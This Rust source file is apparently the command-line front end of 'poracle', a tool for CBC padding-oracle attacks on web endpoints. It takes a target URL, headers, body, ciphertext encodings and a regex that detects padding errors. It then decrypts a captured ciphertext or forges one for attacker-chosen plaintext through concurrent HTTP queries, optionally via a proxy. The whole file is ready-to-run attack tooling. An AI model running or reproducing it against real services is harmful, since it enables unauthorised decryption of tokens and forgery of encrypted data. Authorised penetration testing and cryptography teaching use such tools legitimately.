use clap::Parser;
use colored::Colorize;
use reqwest::Method;
use tokio::sync::mpsc::{self, Receiver};
use tokio::task::JoinHandle;

use poracle::encode::{decode_chain, Encoding};
use poracle::{cbc, decrypt, forge, AttackError, Config, HttpOracle, Progress};

#[derive(Parser, Debug)]
#[command(
    name = "poracle",
    version,
    about = "CBC padding-oracle decryption and forgery"
)]
struct Args {
    ///url of the vulnerable endpoint, may contain @{CIPHERTEXT}@
    #[arg(short, long)]
    url: String,

    ///request method
    #[arg(short, long, default_value_t = Method::GET)]
    method: Method,

    ///extra request header, "Name: value", may contain @{CIPHERTEXT}@
    #[arg(short = 'H', long = "header")]
    headers: Vec<String>,

    ///request body, may contain @{CIPHERTEXT}@
    #[arg(short, long)]
    data: Option<String>,

    ///wire encoding of the ciphertext, outermost first [default: b64]
    #[arg(short, long)]
    encoding: Vec<Encoding>,

    ///regex marking a response with invalid padding
    #[arg(short, long)]
    invalid: String,

    ///the ciphertext to decrypt, in the chosen encoding
    #[arg(short, long, required_unless_present = "forge")]
    ciphertext: Option<String>,

    ///forge a ciphertext for this plaintext instead of decrypting
    #[arg(short, long)]
    forge: Option<String>,

    ///upper bound on concurrent oracle queries
    #[arg(short, long, default_value_t = poracle::MAX_WORKERS)]
    workers: usize,

    ///cipher block length in bytes
    #[arg(short, long, default_value_t = poracle::BLOCK_LEN)]
    block_len: usize,

    ///proxy to send the requests through
    #[arg(long)]
    proxy: Option<String>,
}

#[tokio::main]
async fn main() {
    let args = Args::parse();
    if let Err(err) = run(args).await {
        eprintln!("{}", err.to_string().red());
        std::process::exit(1);
    }
}

async fn run(args: Args) -> Result<(), AttackError> {
    let encodings = if args.encoding.is_empty() {
        vec![Encoding::B64]
    } else {
        args.encoding.clone()
    };
    let config = Config {
        block_len: args.block_len,
        max_workers: args.workers,
    };

    let mut headers = Vec::new();
    for header in &args.headers {
        let Some((name, value)) = header.split_once(':') else {
            return Err(AttackError::InvalidInput(format!(
                "header without a colon: {header}"
            )));
        };
        headers.push((name.trim().to_string(), value.trim().to_string()));
    }

    let oracle = HttpOracle::new(
        args.url,
        args.method,
        headers,
        args.data,
        encodings.clone(),
        &args.invalid,
        args.proxy,
    )?;

    let (tx, rx) = mpsc::channel(255);
    let reporter = spawn_reporter(rx);

    let outcome = if let Some(plaintext) = args.forge {
        let forged = forge(plaintext.as_bytes(), oracle, tx, config).await?;
        format!("{} {}", "forged ciphertext:".green(), hex::encode(forged))
    } else {
        let encoded = args
            .ciphertext
            .expect("clap requires a ciphertext unless forging");
        let raw = decode_chain(&encoded, &encodings)?;
        let padded = decrypt(&raw, oracle, tx, config.clone()).await?;
        let plaintext = cbc::pkcs_unpad(&padded, config.block_len).unwrap_or(padded);
        format!("{} {}", "plaintext:".green(), fmt_bytes(&plaintext))
    };
    let _ = reporter.await;
    println!("{outcome}");
    Ok(())
}

fn fmt_bytes(bytes: &[u8]) -> String {
    let mut out = String::new();
    for &byte in bytes {
        if byte.is_ascii_graphic() || byte.is_ascii_whitespace() {
            out.push(byte as char);
        } else {
            // two-digit uppercase hex escape for anything unprintable
            out.push_str(&format!("\\x{byte:02X}"));
        }
    }
    out
}

fn spawn_reporter(mut rx: Receiver<Progress>) -> JoinHandle<()> {
    tokio::spawn(async move {
        while let Some(message) = rx.recv().await {
            match message {
                Progress::BlockStarted { index, total } => {
                    eprintln!("{}", format!("block {index}/{total}").bold());
                }
                Progress::ByteFound { position, value } => {
                    eprintln!("{}", format!("  byte {position:2} = 0x{value:02X}").dimmed());
                }
            }
        }
    })
}
